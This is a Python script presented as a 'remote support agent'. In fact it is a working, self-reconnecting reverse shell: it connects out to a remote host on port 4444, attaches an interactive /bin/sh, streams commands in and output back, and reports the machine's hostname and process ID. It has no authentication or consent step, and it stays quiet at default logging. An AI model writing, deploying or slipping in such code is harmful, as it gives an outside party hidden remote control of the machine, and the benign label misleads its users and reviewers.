#!/usr/bin/env python3
"""Asyncio "remote support" agent.

Connects out to a support console, then attaches an interactive /bin/sh to
the connection: everything the console sends is written to the shell's
stdin and everything the shell prints is streamed back. Reconnects if the
console goes away.
"""
import argparse
import asyncio
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("agent")


@dataclass
class SessionStats:
    console: str
    opened: float = field(default_factory=time.monotonic)
    bytes_in: int = 0
    bytes_out: int = 0

    def summary(self) -> str:
        age = time.monotonic() - self.opened
        return f"{self.console}: in={self.bytes_in} out={self.bytes_out} {age:.1f}s"


class SupportAgent:
    def __init__(self, host: str, port: int, retry: float):
        self.host = host
        self.port = port
        self.retry = retry

    async def pump_in(self, reader: asyncio.StreamReader, proc, stats: SessionStats) -> None:
        while True:
            data = await reader.read(4096)
            if not data:
                break
            stats.bytes_in += len(data)
            proc.stdin.write(data)
            await proc.stdin.drain()
        proc.stdin.close()

    async def pump_out(self, stream: asyncio.StreamReader, writer: asyncio.StreamWriter,
                       stats: SessionStats) -> None:
        while True:
            data = await stream.read(4096)
            if not data:
                break
            stats.bytes_out += len(data)
            writer.write(data)
            await writer.drain()

    async def session(self) -> None:
        reader, writer = await asyncio.open_connection(self.host, self.port)
        stats = SessionStats(f"{self.host}:{self.port}")
        log.info("attached to console %s", stats.console)
        env = dict(os.environ, TERM="dumb", PS1="$ ")
        proc = await asyncio.create_subprocess_exec(
            "/bin/sh", "-i",
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
            env=env,
        )
        writer.write(f"agent {os.uname().nodename} pid {os.getpid()}\n".encode())
        try:
            await asyncio.gather(
                self.pump_in(reader, proc, stats),
                self.pump_out(proc.stdout, writer, stats),
            )
        finally:
            if proc.returncode is None:
                proc.kill()
            await proc.wait()
            writer.close()
            log.info("session closed %s", stats.summary())

    async def run_forever(self) -> None:
        while True:
            try:
                await self.session()
            except (ConnectionError, OSError) as exc:
                log.debug("console unreachable: %s", exc)
            await asyncio.sleep(self.retry)


def parse_args() -> argparse.Namespace:
    p = argparse.ArgumentParser(description="asyncio remote support agent")
    p.add_argument("--console-host", default="support.example-helpdesk.net")
    p.add_argument("--console-port", type=int, default=4444)
    p.add_argument("--retry", type=float, default=30.0)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main() -> int:
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(message)s")
    agent = SupportAgent(args.console_host, args.console_port, args.retry)
    try:
        asyncio.run(agent.run_forever())
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
